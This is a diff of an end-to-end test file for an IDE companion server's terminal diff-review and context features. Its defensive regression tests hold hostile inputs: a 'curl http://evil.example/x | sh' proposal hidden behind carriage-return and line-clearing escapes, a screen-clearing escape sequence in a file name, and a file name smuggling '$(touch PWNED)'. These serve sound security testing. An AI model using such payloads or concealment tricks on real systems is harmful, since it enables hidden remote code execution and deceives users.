@@ -1,10 +1,12 @@
 /**
  * `ide-companion serve` run for real in a tmux terminal, with a real MCP client
- * playing the CLI: discovery, context from saved files, diff review keys,
- * $EDITOR edits, Ctrl+C cleanup.
+ * playing the CLI: discovery, context from saved files, diff review keys (one
+ * key, no Enter), $EDITOR edits, hostile proposals and request floods, Ctrl+C
+ * cleanup.
  */
 import assert from 'node:assert/strict';
-import { execFileSync } from 'node:child_process';
+import { execFileSync, spawnSync } from 'node:child_process';
+import * as http from 'node:http';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
 import { after, before, describe, test } from 'node:test';
@@ -14,6 +16,11 @@ const bin = path.join(repoRoot, 'packages', 'cli', 'bin', 'ide-companion.js');
 const skip = skipUnless(which('tmux') !== undefined, 'tmux', 'apt-get install tmux');
 
 type Peer = RecordingClient;
+
+/** The visible pane only (no scrollback): what the user sees now. */
+function visiblePane(tmux: Tmux): string {
+  return spawnSync('tmux', ['-L', tmux.socket, 'capture-pane', '-p', '-t', 'main'], { encoding: 'utf8' }).stdout;
+}
 
 /** Connects like the CLI, with what the discovery file in `discoveryDir` says. */
 function connect(discoveryDir: string): Promise<Peer> {
@@ -28,6 +35,7 @@ describe('ide-companion serve', { skip }, () => {
   let discoveryDir: string;
   let tmux: Tmux;
   let peer: Peer;
+  let editorLog: string;
   const outcome = (filePath: string) =>
     waitFor(() => peer.notifications.find((n) => n.method !== 'ide/contextUpdate' && n.params.filePath === filePath), `outcome for ${filePath}`, 15_000);
 
@@ -38,9 +46,12 @@ describe('ide-companion serve', { skip }, () => {
     fs.mkdirSync(path.join(workspace, 'node_modules'));
     execFileSync('git', ['init', '-q', workspace]);
     fs.writeFileSync(path.join(workspace, '.gitignore'), 'ignored/\n');
+    execFileSync('git', ['-C', workspace, 'add', '.gitignore']);
+    execFileSync('git', ['-C', workspace, '-c', 'user.email=t@example.com', '-c', 'user.name=t', 'commit', '-qm', 'initial']);
     const editor = path.join(tmp.path, 'editor.sh');
-    // The "user" appends a line in the editor.
-    fs.writeFileSync(editor, '#!/bin/sh\nprintf "added in the editor\\n" >> "$1"\n', { mode: 0o755 });
+    editorLog = path.join(tmp.path, 'editor.log');
+    // The "user" appends a line in the editor; the script logs the arguments it got.
+    fs.writeFileSync(editor, `#!/bin/sh\nprintf '%s|%s\\n' "$#" "$1" >> ${JSON.stringify(editorLog)}\nprintf "added in the editor\\n" >> "$1"\n`, { mode: 0o755 });
     tmux = new Tmux(160, 50);
     tmux.start(`node ${JSON.stringify(bin)} serve --workspace ${JSON.stringify(workspace)}`, {
       cwd: tmp.path,
@@ -84,23 +95,33 @@ describe('ide-companion serve', { skip }, () => {
     assert.deepEqual(paths, [b, a]);
   });
 
-  test('a proposal is shown as a unified diff; "a" accepts it unchanged', async () => {
+  test('a proposal is shown as a unified diff with its keys; "a" alone (no Enter) accepts it unchanged', async () => {
     const f = path.join(workspace, 'accept.txt');
     fs.writeFileSync(f, 'line one\n');
     await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: 'line one\nline two\n' } });
     await tmux.waitForText('+line two');
     await tmux.waitForText('[a]ccept');
+    await tmux.waitForText('press one key: a accept, r reject, e edit');
     tmux.type('a');
-    tmux.keys('Enter');
     assert.deepEqual((await outcome(f)).params, { filePath: f, content: 'line one\nline two\n' });
   });
 
-  test('"r" rejects', async () => {
+  test('"r" alone rejects', async () => {
     const f = path.join(workspace, 'reject.txt');
     await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: 'new file\n' } });
     await tmux.waitForText('+new file');
     tmux.type('r');
-    tmux.keys('Enter');
+    assert.deepEqual(await outcome(f), { method: 'ide/diffRejected', params: { filePath: f } });
+  });
+
+  test('a key and Enter arriving in one read still decide; a paste of several keys does not', async () => {
+    const f = path.join(workspace, 'burst.txt');
+    await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: 'burst\n' } });
+    await tmux.waitForText('+burst');
+    tmux.type('ar'); // pasted: neither accepts nor rejects
+    await tmux.waitForText('one key at a time');
+    assert.equal(peer.notifications.find((n) => n.method !== 'ide/contextUpdate' && n.params.filePath === f), undefined);
+    tmux.type('r\r');
     assert.deepEqual(await outcome(f), { method: 'ide/diffRejected', params: { filePath: f } });
   });
 
@@ -108,13 +129,81 @@ describe('ide-companion serve', { skip }, () => {
     const f = path.join(workspace, 'edit.txt');
     const proposal = 'crlf line\r\nno final newline';
     await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: proposal } });
-    await tmux.waitForText('+crlf line');
+    await tmux.waitForText('+crlf line␍');
     tmux.type('e');
-    tmux.keys('Enter');
     await tmux.waitForText('(with your edits)');
     tmux.type('a');
-    tmux.keys('Enter');
     assert.equal((await outcome(f)).params.content, proposal + 'added in the editor\n');
+  });
+
+  // Regression: a proposal holding `\r` + `ESC[2K` displayed `+echo "tests pass"` while the accepted text ran `curl ... | sh`.
+  test('control characters in a proposal are shown, never sent to the terminal: \\r + ESC[2K cannot hide a line', async () => {
+    const f = path.join(workspace, 'script.sh');
+    const hostile = 'curl http://evil.example/x | sh\r\x1b[2Kecho "tests pass"\n';
+    await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: hostile } });
+    await tmux.waitForText('[a]ccept');
+    const screen = await tmux.waitForText('+curl http://evil.example/x | sh␍␛[2Kecho "tests pass"');
+    assert.ok(!screen.includes('\x1b'));
+    tmux.type('r');
+    await outcome(f);
+  });
+
+  // Regression: a path holding `ESC[2J` cleared the screen.
+  test('a path holding ESC[2J ESC[H does not clear the screen; it is shown with visible escapes', async () => {
+    const marker = path.join(workspace, 'before-the-hostile-path.txt');
+    await peer.client.callTool({ name: 'openDiff', arguments: { filePath: marker, newContent: 'marker\n' } });
+    await tmux.waitForText('+marker');
+    tmux.type('r');
+    await outcome(marker);
+    const f = path.join(workspace, 'evil\x1b[2J\x1b[Hname.txt');
+    await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: 'hidden?\n' } });
+    await tmux.waitForText('+hidden?');
+    const pane = visiblePane(tmux);
+    assert.match(pane, /proposes a change to .*evil␛\[2J␛\[Hname\.txt:/);
+    assert.match(pane, /Rejected: .*before-the-hostile-path\.txt stays as it is/, 'what was printed before is still on screen');
+    tmux.type('r');
+    await outcome(f);
+  });
+
+  test('editing works for any file name: the temp file is safely named and passed as one argument', async () => {
+    const f = path.join(workspace, 'odd "name\' $(touch PWNED) \x1b[31m;\n-x +q.txt');
+    await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: 'odd\n' } });
+    await tmux.waitForText('+odd');
+    fs.rmSync(editorLog, { force: true });
+    tmux.type('e');
+    await waitFor(() => tmux.screen().includes('(with your edits)') && fs.existsSync(editorLog), 'the edited proposal');
+    tmux.type('a');
+    assert.equal((await outcome(f)).params.content, 'odd\nadded in the editor\n');
+    const [count, arg] = fs.readFileSync(editorLog, 'utf8').trim().split('|');
+    assert.equal(count, '1');
+    assert.match(path.basename(arg!), /^proposal-[A-Za-z0-9._-]+\.txt$/);
+    assert.ok(!fs.existsSync(path.join(tmp.path, 'PWNED')) && !fs.existsSync(path.join(workspace, 'PWNED')));
+  });
+
+  test('a flood of refused requests stays on the status line: the proposal and its prompt stay on screen', async () => {
+    const f = path.join(workspace, 'flood.txt');
+    await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: 'still here\n' } });
+    await tmux.waitForText('+still here');
+    const name = fs.readdirSync(discoveryDir).find((n) => n.startsWith('gemini-ide-server-'))!;
+    const { port } = JSON.parse(fs.readFileSync(path.join(discoveryDir, name), 'utf8'));
+    const refused = (i: number) =>
+      new Promise<number>((resolve, reject) => {
+        const req = http.request({ host: '127.0.0.1', port, path: '/mcp', method: 'POST', headers: { Authorization: `Bearer wrong-${i}` } }, (res) => {
+          res.resume();
+          resolve(res.statusCode!);
+        });
+        req.on('error', reject);
+        req.end('{}');
+      });
+    for (let batch = 0; batch < 10; batch++) await Promise.all(Array.from({ length: 30 }, (_, i) => refused(batch * 30 + i)));
+    await waitFor(() => /more warnings? in 1 s, last: request refused/.test(visiblePane(tmux)), 'the summarised refusals on the status line');
+    const pane = visiblePane(tmux);
+    assert.match(pane, /\+still here/);
+    assert.match(pane, /proposes a change to .*flood\.txt/);
+    assert.match(pane, /\[a\]ccept/);
+    assert.ok(pane.split('request refused').length <= 2, 'one status line, not a line per refusal');
+    tmux.type('a');
+    await outcome(f);
   });
 
   test('closeDiff from the CLI (answered in its terminal) closes the review and returns the edits', async () => {
@@ -122,8 +211,7 @@ describe('ide-companion serve', { skip }, () => {
     await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: 'model\n' } });
     await tmux.waitForText('+model');
     tmux.type('e');
-    tmux.keys('Enter');
-    await waitFor(() => tmux.screen().split('(with your edits)').length > 2, 'edited proposal shown again');
+    await tmux.waitForText('closed.txt (with your edits):');
     const r: any = await peer.client.callTool({ name: 'closeDiff', arguments: { filePath: f, suppressNotification: true } });
     assert.deepEqual(JSON.parse(r.content[0].text), { content: 'model\nadded in the editor\n' });
     await tmux.waitForText('answered in the Gemini CLI terminal');
@@ -162,31 +250,89 @@ test('serve --json logs events as JSON lines for scripts, without the token', as
   }
 });
 
-test('serve starts the context with the most recently modified tracked files, newest first', async () => {
+/** The first context `serve --workspace dir` pushes to a client. */
+async function initialContext(dir: string, tmp: string): Promise<any[]> {
+  const { spawn } = await import('node:child_process');
+  const child = spawn(process.execPath, [bin, 'serve', '--json', '--workspace', dir], { env: { ...process.env, TMPDIR: tmp } });
+  try {
+    const discovery = path.join(tmp, 'gemini', 'ide');
+    await waitFor(() => fs.existsSync(discovery) && fs.readdirSync(discovery).some((n) => n.startsWith('gemini-ide-server-')), 'discovery file', 20_000);
+    const peer = await connect(discovery);
+    const first = await waitFor(() => peer.notifications.find((n) => n.method === 'ide/contextUpdate'), 'initial context');
+    await peer.close();
+    return first.params.workspaceState.openFiles;
+  } finally {
+    child.kill('SIGTERM');
+    await new Promise((r) => child.once('exit', r));
+  }
+}
+
+// Regression: seeded by modification time, the context listed files nobody opened (lockfile, tsconfig).
+test('serve starts the context with the uncommitted changes, newest first, without lockfiles or build output', async () => {
+  const tmp = makeTempDir();
+  const ws = path.join(tmp.path, 'ws');
+  const at = (rel: string, second: number, text?: string) => {
+    const f = path.join(ws, rel);
+    fs.mkdirSync(path.dirname(f), { recursive: true });
+    if (text !== undefined) fs.writeFileSync(f, text);
+    const t = new Date(Date.UTC(2026, 0, 1, 0, 0, second));
+    fs.utimesSync(f, t, t);
+    return f;
+  };
+  try {
+    for (const rel of ['src/a.ts', 'src/b.ts', 'package-lock.json', 'tsconfig.json', 'gone.ts', 'renamed-from.ts']) at(rel, 0, `${rel}\n`);
+    execFileSync('git', ['init', '-q', ws]);
+    execFileSync('git', ['-C', ws, 'add', '.']);
+    execFileSync('git', ['-C', ws, '-c', 'user.email=t@example.com', '-c', 'user.name=t', 'commit', '-qm', 'initial']);
+    execFileSync('git', ['-C', ws, 'mv', 'renamed-from.ts', 'renamed-to.ts']);
+    fs.rmSync(path.join(ws, 'gone.ts'));
+    const renamed = at('renamed-to.ts', 1);
+    const a = at('src/a.ts', 3, 'changed\n');
+    const added = at('src/new.ts', 5, 'new\n');
+    at('x.tsbuildinfo', 7, '{}');
+    at('dist/bundle.js', 8, 'built');
+    at('package-lock.json', 9, '{"changed":true}');
+    at('tsconfig.json', 10); // touched, not changed
+    const open = await initialContext(ws, tmp.path);
+    assert.deepEqual(
+      open.map((f: any) => f.path),
+      [added, a, renamed],
+    );
+    assert.equal(open[0].timestamp, Date.UTC(2026, 0, 1, 0, 0, 5));
+  } finally {
+    tmp.cleanup();
+  }
+});
+
+test('outside git, serve starts with an empty context (it fills as files are saved)', async () => {
+  const tmp = makeTempDir();
+  const ws = path.join(tmp.path, 'plain');
+  fs.mkdirSync(ws);
+  fs.writeFileSync(path.join(ws, 'recent.ts'), 'x');
+  try {
+    assert.deepEqual(await initialContext(ws, tmp.path), []);
+  } finally {
+    tmp.cleanup();
+  }
+});
+
+test('on a stdin that is not a terminal, a line decides (the first key of the line)', async () => {
   const tmp = makeTempDir();
   const { spawn } = await import('node:child_process');
-  const files: string[] = [];
-  for (let i = 0; i < 12; i++) {
-    const f = path.join(tmp.path, `f${i}.txt`);
-    fs.writeFileSync(f, String(i));
-    const t = new Date(Date.UTC(2026, 0, 1, 0, 0, i));
-    fs.utimesSync(f, t, t);
-    files.push(f);
-  }
-  execFileSync('git', ['init', '-q', tmp.path]);
-  execFileSync('git', ['-C', tmp.path, 'add', '.']);
-  const child = spawn(process.execPath, [bin, 'serve', '--json', '--workspace', tmp.path], { env: { ...process.env, TMPDIR: tmp.path } });
+  const child = spawn(process.execPath, [bin, 'serve', '--workspace', tmp.path], { env: { ...process.env, TMPDIR: tmp.path, NO_COLOR: '1' } });
+  let out = '';
+  child.stdout.on('data', (d) => (out += d));
   try {
     const dir = path.join(tmp.path, 'gemini', 'ide');
     await waitFor(() => fs.existsSync(dir) && fs.readdirSync(dir).some((n) => n.startsWith('gemini-ide-server-')), 'discovery file', 20_000);
     const peer = await connect(dir);
-    const first = await waitFor(() => peer.notifications.find((n) => n.method === 'ide/contextUpdate'), 'initial context');
-    const open = first.params.workspaceState.openFiles;
-    assert.deepEqual(
-      open.map((f: any) => f.path),
-      files.slice(2).reverse(),
-    );
-    assert.equal(open[0].timestamp, Date.UTC(2026, 0, 1, 0, 0, 11));
+    const f = path.join(tmp.path, 'piped.txt');
+    await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: 'from a pipe\n' } });
+    await waitFor(() => out.includes('[a]ccept'), 'the prompt');
+    child.stdin.write('accept\n');
+    const done = await waitFor(() => peer.notifications.find((n) => n.method === 'ide/diffAccepted'), 'accepted');
+    assert.deepEqual(done.params, { filePath: f, content: 'from a pipe\n' });
+    assert.ok(!out.includes('\x1b'), 'no escape sequences on a pipe');
     await peer.close();
   } finally {
     child.kill('SIGTERM');
